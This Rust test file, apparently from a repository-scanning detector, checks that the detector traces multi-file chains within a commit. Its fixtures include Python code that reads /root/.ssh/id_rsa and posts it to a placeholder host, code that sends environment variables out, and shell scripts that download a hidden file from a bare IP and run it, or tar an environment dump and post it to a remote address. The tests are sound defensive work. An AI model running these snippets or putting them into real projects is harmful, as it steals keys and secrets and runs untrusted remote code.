//! Programs of a commit that are followed together.

use super::*;
use skillgate_detection::Rule;

/// The chains of a copy: file, rule and last line of each.
fn chains(copy: &StagedTree) -> Vec<(&str, Rule, u32)> {
    let all = copy.evidence.iter().flat_map(|(at, all)| all.iter().map(move |one| (*at, one)));
    all.map(|(at, one)| (copy.files[at].path.as_str(), one.chain.rule, one.chain.last_line()))
        .collect()
}

#[tokio::test]
async fn what_one_file_reads_and_another_sends_stands_where_it_is_sent() {
    let mut repo = TestRepo::new();
    repo.commit(&[
        (b"config.json", b"{\"to\": \"https://v.example.invalid/x\"}"),
        (b"keys.py", b"def keys():\n    return open('/root/.ssh/id_rsa').read()\n"),
        (
            b"main.py",
            b"import json, requests\nfrom keys import keys\nrequests.post(json.load(open('config.json'))['to'], data=keys())\n",
        ),
    ]);
    let copy = copy(&repo, Provider::Semgrep).await;
    assert_eq!(chains(&copy), [("main.py", Rule::SecretSent, 3)]);
    let message = copy.evidence.values().flatten().next().unwrap().chain.message();
    assert!(message.contains("reads /root/.ssh/id_rsa (keys.py, line 2)"), "{message}");
}

#[tokio::test]
async fn what_one_file_says_alone_is_said_once_and_a_part_of_the_environment_is_no_theft() {
    let mut repo = TestRepo::new();
    repo.commit(&[
        (b"a.py", b"import requests\nrequests.post('https://v.example.invalid', data=open('/root/.ssh/id_rsa').read())\n"),
        (b"send.py", b"import requests\ndef send(d):\n    requests.post('https://v.example.invalid', json=d)\n"),
        (b"b.py", b"import os\nfrom send import send\nd = {}\nfor k, v in os.environ.items():\n    if wanted(k):\n        d[k] = v\nsend(d)\n"),
    ]);
    let copy = copy(&repo, Provider::Semgrep).await;
    assert_eq!(chains(&copy), [("a.py", Rule::SecretSent, 2)]);
}

#[tokio::test]
async fn what_is_too_long_to_be_read_together_is_said() {
    let long = "x = 1\n".repeat(100_000);
    let mut repo = TestRepo::new();
    repo.commit(&[(b"a.py", b"x = 1\n"), (b"b.py", b"y = 1\n"), (b"long.py", long.as_bytes())]);
    let copy = copy(&repo, Provider::Semgrep).await;
    let said = |note: &&FileNote| note.reason.contains("read alone");
    assert_eq!(copy.not_read.iter().filter(said).count(), 1);
    assert_eq!(unscanned(&copy), []);
}

#[tokio::test]
async fn what_a_shell_library_defines_and_a_script_joins_stands_where_it_is_loaded() {
    let mut repo = TestRepo::new();
    repo.commit(&[
        (
            b"lib.sh",
            b"src=http://203.0.113.9\npull() { curl -s \"$src/$1\" -o \"$2\"; }\nuse() { chmod u+x \"$1\"; \"$1\" & }\n",
        ),
        (
            b"fonts.sh",
            b"#!/bin/bash\n. \"$(dirname \"$0\")/lib.sh\"\npull face /tmp/.f && use /tmp/.f\n",
        ),
        (b"x.rb", b"puts 1\n"),
        (b"b.sh", b"\"$(dirname \"$0\")/x.rb\"\n. ./lib.sh\necho done\n"),
    ]);
    let copy = copy(&repo, Provider::Semgrep).await;
    assert_eq!(chains(&copy), [("fonts.sh", Rule::FetchRun, 2)]);
}

#[tokio::test]
async fn what_one_script_puts_down_and_another_sends_says_where_it_was_read() {
    let mut repo = TestRepo::new();
    repo.commit(&[
        (b"measure.sh", b"mkdir -p /tmp/perf\nenv > /tmp/perf/context.txt\n"),
        (
            b"cleanup.sh",
            b"tar cf - -C /tmp perf | curl -s --data-binary @- http://192.0.2.39:8080/perf\n",
        ),
    ]);
    let copy = copy(&repo, Provider::Semgrep).await;
    assert_eq!(chains(&copy), [("cleanup.sh", Rule::EnvironmentSent, 1)]);
    let message = copy.evidence.values().flatten().next().unwrap().chain.message();
    assert!(message.contains("(measure.sh, line 2)"), "{message}");
}
